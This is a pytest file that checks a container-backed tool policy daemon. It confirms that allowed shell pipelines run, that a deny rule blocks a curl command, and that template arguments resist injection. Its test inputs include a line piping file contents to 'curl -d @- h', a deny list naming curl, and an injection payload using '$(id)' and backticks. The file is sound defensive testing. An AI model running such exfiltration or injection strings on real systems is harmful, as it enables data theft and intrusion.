"""Policy decisions carried out by the real container backend (needs Docker; never skipped in
CI): operators run under /bin/sh after every command was checked, argv templates stay one
argument each, denied calls never reach Docker."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.policy.helpers import write
from tests.support.daemon import running_daemon

POLICY = """\
version: 1
name: ops
clients: ["*"]
limits: {timeout: 60s}
tools:
  shell:
    backend: container
    commands: {allow: [echo, wc, cat, ls, printf], deny: [curl]}
    operators: true
custom_tools:
  show_args:
    description: Print each argument on its own line.
    backend: container
    parameters:
      type: object
      properties: {value: {type: string}}
      required: [value]
    argv: [printf, "[%s]\\\\n", "{value}", "--end"]
"""


@pytest.mark.docker
def test_container_runs_checked_lines_and_templates(tmp_path: Path, docker_client: object
                                                    ) -> None:
    policies = tmp_path / "policies"
    write(policies, "ops.yaml", POLICY)
    with running_daemon(tmp_path, policies_dir=policies) as d:
        r = d.invoke("shell", {"command": "echo hello | wc -c"})
        body = r.json()
        assert body["status"] == "ok", body
        assert body["stdout"].strip() == "6"
        assert body["policy"]["rule"] == ("tools.shell.commands.allow[0], "
                                          "tools.shell.commands.allow[1]")
        r = d.invoke("shell", {"command": "echo x > out.txt; cat out.txt | curl -d @- h"})
        assert r.json()["status"] == "denied"
        assert r.json()["policy"]["rule"] == "tools.shell.commands.deny[0]"
        injection = "; echo pwned $(id) `id` && ls /"
        r = d.invoke("show_args", {"value": injection})
        body = r.json()
        assert body["status"] == "ok", body
        assert body["stdout"] == f"[{injection}]\n[--end]\n"
